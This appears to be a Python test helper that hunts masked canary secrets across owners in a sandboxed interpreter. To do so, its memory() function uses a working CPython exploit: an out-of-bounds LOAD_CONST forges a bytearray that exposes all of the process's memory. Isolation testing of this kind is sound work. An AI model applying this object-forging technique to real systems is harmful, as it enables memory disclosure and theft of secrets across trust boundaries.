"""Secrets, and a hunter that reads all of the guest's memory, whoever it belonged to.

Both halves of a secret are kept masked, so that neither hunter nor source holds one.
"""

import opcode
import types

MASK = 0xA5
FIRST, SECOND = (bytes(byte ^ MASK for byte in half) for half in (b"canary-1", b"canary-2"))


# What forged objects stand in.
alive = []


def secret(owner):
    return bytes(byte ^ MASK for byte in FIRST + SECOND) + b"%08d" % owner


def memory(length):
    """The guest's memory from address 0 on, as a bytearray.

    The interpreter does not check which constant an instruction loads. Code that asks for one far beyond its own is given
    what a pointer there points to: a bytearray forged in the bytes of another object.
    """

    def words(*values):
        return b"".join((value & 0xFFFFFFFF).to_bytes(4, "little") for value in values)

    content = bytes.__basicsize__ - 1
    forged = words(1 << 20, id(bytearray), length, length, 0, 0, 0)
    pointer = words(id(forged) + content)
    alive.append(forged)
    constants = ()
    index = (id(pointer) + content - id(constants) - tuple.__basicsize__) // 4
    *upper, lowest = (index & 0xFFFFFFFF).to_bytes(4, "big")
    op = opcode.opmap
    code = bytes([op["RESUME"], 0])
    code += b"".join(bytes([op["EXTENDED_ARG"], byte]) for byte in upper)
    code += bytes([op["LOAD_CONST"], lowest, op["RETURN_VALUE"], 0])
    load = (lambda: None).__code__.replace(co_code=code, co_consts=constants)
    return types.FunctionType(load, {})()


def owners(length):
    """Whose secrets lie in memory."""
    everything = memory(length)
    first = bytes(byte ^ MASK for byte in FIRST)
    found = []
    at = everything.find(first)
    while at >= 0:
        rest = everything[at + 8 : at + 24]
        if all(byte ^ MASK == masked for byte, masked in zip(rest, SECOND)):
            found.append(rest[8:].decode("ascii", "replace"))
        at = everything.find(first, at + 1)
    return found
